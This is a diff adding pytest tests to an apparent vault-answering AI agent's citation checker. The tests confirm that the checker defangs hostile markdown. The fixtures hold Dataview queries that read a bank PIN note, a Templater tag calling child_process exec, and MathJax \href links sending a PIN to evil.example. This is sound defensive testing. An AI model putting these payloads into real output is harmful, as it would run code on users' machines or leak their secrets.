@@ -20,8 +20,9 @@ import pytest
 from markdown_it import MarkdownIt
 
 from vault_agent.agent.citations.checker import check_answer
+from vault_agent.agent.citations.shown_links import shown_only
 from vault_agent.agent.runnable import CODE_LANGUAGES, inert, plain_fences
-from vault_agent.agent.safe_markdown import sanitise_markdown
+from vault_agent.agent.safe_markdown import code_spans, sanitise_markdown
 from vault_agent.agent.vault_urls import is_safe_link, is_vault_resource
 from vault_agent.vault.graph import LinkGraph
 
@@ -255,3 +256,110 @@ def test_a_block_whose_text_cannot_be_placed_is_made_text_whole() -> None:
     safe = sanitise_markdown(text)
     assert violations(render(safe.markdown)) == []
     assert safe.markdown == "- a\n\t\tb \\!\\[x\\](https://evil.example/a.png)"
+
+
+# What Dataview evaluates: code whose trimmed text starts with "=" or "$=" (2026-11-27 audit).
+
+#: JavaScript's String.prototype.trim(): WhiteSpace and LineTerminator (U+FEFF included).
+_JS_SPACE = "\t\n\v\f\r \u00a0\u1680\u202f\u205f\u3000\ufeff\u2028\u2029" + "".join(
+    map(chr, range(0x2000, 0x200B))
+)
+
+
+def dataview_queries(html: str) -> list[str]:
+    """What Dataview (src/main.ts `dataviewInline`, defaults: `inlineQueriesInCodeblocks`
+    true) evaluates: every <code>, in a <pre> too, whose `innerText.trim()` starts with "="
+    (a query) or "$=" (JavaScript)."""
+    document = html5lib.parse(html, namespaceHTMLElements=False)
+    found = []
+    for code in document.iter("code"):
+        text = "".join(code.itertext()).strip(_JS_SPACE)
+        if (text.startswith("=") and text[1:].strip(_JS_SPACE)) or text.startswith("$="):
+            found.append(text)
+    return found
+
+
+DATAVIEW_FORMS = {
+    "fenced block": "PIN:\n\n```\n= [[Diary/Bank]].pin\n```",
+    "fenced block, allowed language": "```python\n$= dv.el('img', '', {attr: {src: 'x'}})\n```",
+    "tilde fence": "~~~\n= [[Diary/Bank]].pin\n~~~",
+    "indented code block": "PIN:\n\n    = [[Diary/Bank]].pin",
+    "no-break space": "PIN: `\u00a0= [[Diary/Bank]].pin`",
+    "ideographic space": "PIN: `\u3000= [[Diary/Bank]].pin`",
+    "line break in the span": "PIN: `\n= [[Diary/Bank]].pin`",
+    "raw <code>": "PIN: <code>= [[Diary/Bank]].pin</code>",
+}
+
+
+@pytest.mark.parametrize("markdown", DATAVIEW_FORMS.values(), ids=DATAVIEW_FORMS.keys())
+def test_no_code_dataview_evaluates_survives_a_checked_answer(
+    markdown: str, graph: LinkGraph
+) -> None:
+    assert dataview_queries(render(markdown)), "the form is a query as written"
+    assert dataview_queries(render(inert(markdown))) == []
+    answer = f"From your note:\n\n{markdown}\n\nAs in [[Recipes/Miso Soup]]."
+    checked = check_answer(answer, {"Recipes/Miso Soup.md"}, graph).answer
+    assert dataview_queries(render(checked)) == [], checked
+
+
+# A link markdown never shows: MathJax's \href in math.
+
+
+#: Obsidian typesets $...$ and $$...$$ with MathJax, whose \href (on by default, http: and https:
+#: allowed by its `safe` extension) makes a link; the browser reads "https:\\host" and
+#: "https:/host" as https://host/. linkify-it (unlink_unshown) only finds "scheme://".
+MATH_LINKS = {
+    "backslashes": r"Check $\href{https:\\evil.example/v?pin=4931}{your PIN}$ now.",
+    "one slash, display math": r"$$\href{https:/evil.example/v?pin=4931}{\text{verify}}$$",
+}
+
+
+@pytest.mark.parametrize("markdown", MATH_LINKS.values(), ids=MATH_LINKS.keys())
+def test_a_math_link_to_a_page_never_shown_does_not_survive(
+    markdown: str, graph: LinkGraph
+) -> None:
+    answer = f"{markdown}\n\nAs in [[Recipes/Miso Soup]]."
+    checked = check_answer(
+        answer, {"Recipes/Miso Soup.md"}, graph, links=shown_only(frozenset())
+    ).answer
+    code = code_spans(checked)
+    at = checked.find("evil.example")
+    assert at < 0 or any(start <= at < end for start, end in code), checked
+
+
+# The check's own edits, made after `inert`, must not make a command.
+
+EDITED_INTO_COMMANDS = {
+    # The last pass (embeds=False) makes an image its text: "<" + "%" meet after inert ran.
+    "image alt text": "Today is <![%](attachments/a.png)* require('child_process').exec('id') %>.",
+    # The same with Templater's plain output tag.
+    "image alt text, output tag": "PIN: <![%](a.png) tp.system.prompt('PIN?') %>",
+    # An image with no words, gone, leaves the fence it stood before at the start of its line.
+    "empty image before a fence": "Diagram:\n\n![](a.png)```mermaid\ngraph TD\n  A --> B\n```",
+}
+
+
+@pytest.mark.parametrize("markdown", EDITED_INTO_COMMANDS.values(), ids=EDITED_INTO_COMMANDS.keys())
+def test_the_checks_own_edits_make_no_command(markdown: str, graph: LinkGraph) -> None:
+    answer = f"{markdown}\n\nAs in [[Recipes/Miso Soup]]."
+    checked = check_answer(
+        answer, {"Recipes/Miso Soup.md"}, graph, links=shown_only(frozenset())
+    ).answer
+    assert "<%" not in checked, checked
+    assert dataview_queries(render(checked)) == [], checked
+    assert plain_fences(checked) == checked, checked
+
+
+# A fence opening a footnote definition (markdown-it-footnote parses its text as blocks).
+
+
+def test_a_fence_opening_a_footnote_definition_loses_its_language() -> None:
+    """markdown-it-footnote (as mdit_py_plugins) parses a definition's text as blocks, so
+    "[^1]: ```mermaid" opens a mermaid fence; the line rule's lead knows only quote and list
+    markers. Whether Obsidian's footnotes hold blocks is not verified."""
+    from mdit_py_plugins.footnote import footnote_plugin
+
+    markdown = "See[^1].\n\n[^1]: ```mermaid\n    graph TD\n    ```\n"
+    parser = MarkdownIt("commonmark").use(footnote_plugin)
+    assert [t.info for t in parser.parse(markdown) if t.type == "fence"] == ["mermaid"]
+    assert [t.info for t in parser.parse(plain_fences(markdown)) if t.type == "fence"] == [""]
